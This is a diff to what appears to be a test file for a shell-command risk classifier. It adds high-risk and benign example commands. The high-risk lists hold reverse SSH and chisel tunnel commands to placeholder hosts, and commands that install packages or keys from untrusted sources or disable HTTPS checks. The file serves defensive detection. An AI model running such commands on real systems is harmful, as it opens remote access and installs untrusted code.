@@ -1128,6 +1128,14 @@ ROUND3 = [
     ("ssh -o StrictHostKeyChecking=no -fN -R 2222:localhost:22 user@203.0.113.9", HIGH),
     ("autossh -M 0 -f -N -R 0.0.0.0:2222:localhost:22 x.example", HIGH),
     ("chisel client 203.0.113.9:8000 R:socks", HIGH),
+    ("sudo rpm --import https://x.example/key.asc", HIGH),
+    ("composer config repositories.x vcs https://github.com/someone/pkg", HIGH),
+    ("composer config -g secure-http false", HIGH),
+    ("sudo snap install --devmode some-snap", HIGH),
+    ("nix-env -i -f https://x.example/pkg.nix", HIGH),
+    ("nix profile install github:someone/flake", HIGH),
+    ("nix run github:someone/flake", HIGH),
+    ("pip install --trusted-host pypi.org --trusted-host files.pythonhosted.org requests", HIGH),
 ]
 
 ROUND3_BENIGN = [
@@ -1163,6 +1171,22 @@ ROUND3_BENIGN = [
     ("ssh -M -S /tmp/ctl -fN host.example", MODERATE),
     ("autossh -M 0 -N -L 5432:localhost:5432 db.example", MODERATE),
     ("frpc -c frpc.ini", MODERATE),
+    ("pip install torch --index-url https://download.pytorch.org/whl/cu118", MODERATE),
+    (
+        "pip install --index-url https://pypi.org/simple "
+        "--extra-index-url https://download.pytorch.org/whl/cu121 torch",
+        MODERATE,
+    ),
+    (
+        "pip install -U 'jax[cuda12]' -f https://storage.googleapis.com/jax-releases/x.html",
+        MODERATE,
+    ),
+    ("composer require laravel/framework", MODERATE),
+    ("composer config --global process-timeout 600", MODERATE),
+    ("sudo snap install --classic code", MODERATE),
+    ("nix run nixpkgs#hello", MODERATE),
+    ("nix-shell -p python3", MODERATE),
+    ("nix build .#default", MODERATE),
 ]
 
 
